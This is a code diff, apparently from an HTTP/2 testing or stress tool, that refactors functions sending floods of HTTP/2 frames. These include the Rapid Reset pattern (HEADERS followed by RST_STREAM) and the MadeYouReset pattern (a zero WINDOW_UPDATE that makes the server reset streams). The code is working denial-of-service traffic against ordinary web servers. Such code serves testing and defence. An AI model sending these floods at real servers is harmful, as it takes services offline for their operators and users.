@@ -148,41 +148,34 @@ def unread_responses(connection, size):
 
 
 def _complete_calls(connection, size):
+    return _send_calls(connection, size, 50, call)
+
+
+def _send_calls(connection, size, at_once, make):
+    """Sends `make(stream)` for new streams, so many at once, until `size` bytes are sent or refused."""
     sent, stream = 0, 1
     with contextlib.suppress(ConnectionError, OSError):
         while sent < size:
-            data = b"".join(map(call, range(stream, stream + 100, 2)))
+            data = b"".join(map(make, range(stream, stream + 2 * at_once, 2)))
             connection.sendall(data)
-            sent, stream = sent + len(data), stream + 100
+            sent, stream = sent + len(data), stream + 2 * at_once
     return sent
 
 
 def rapid_resets(connection, size):
     begin(connection, HELLO + ACK)
-    sent, stream = 0, 1
-    with contextlib.suppress(ConnectionError, OSError):
-        while sent < size:
-            data = b"".join(
-                http2.frame(http2.HEADERS, http2.END_HEADERS, number, http2.CALL) +
-                http2.frame(http2.RST_STREAM, 0, number, b"\0\0\0\x08")
-                for number in range(stream, stream + 200, 2))
-            connection.sendall(data)
-            sent, stream = sent + len(data), stream + 200
-    return sent
+    return _send_calls(
+        connection, size, 100,
+        lambda stream: (http2.frame(http2.HEADERS, http2.END_HEADERS, stream, http2.CALL) +
+                        http2.frame(http2.RST_STREAM, 0, stream, b"\0\0\0\x08")))
 
 
 def made_resets(connection, size):
     """Calls that the server itself is made to reset, by a window update of 0 (MadeYouReset)."""
     begin(connection, HELLO + ACK)
-    sent, stream = 0, 1
-    with contextlib.suppress(ConnectionError, OSError):
-        while sent < size:
-            data = b"".join(
-                call(number) + http2.frame(http2.WINDOW_UPDATE, 0, number, b"\0\0\0\0")
-                for number in range(stream, stream + 100, 2))
-            connection.sendall(data)
-            sent, stream = sent + len(data), stream + 100
-    return sent
+    return _send_calls(
+        connection, size, 50,
+        lambda stream: call(stream) + http2.frame(http2.WINDOW_UPDATE, 0, stream, b"\0\0\0\0"))
 
 
 def _frames(frame, prefix=b""):
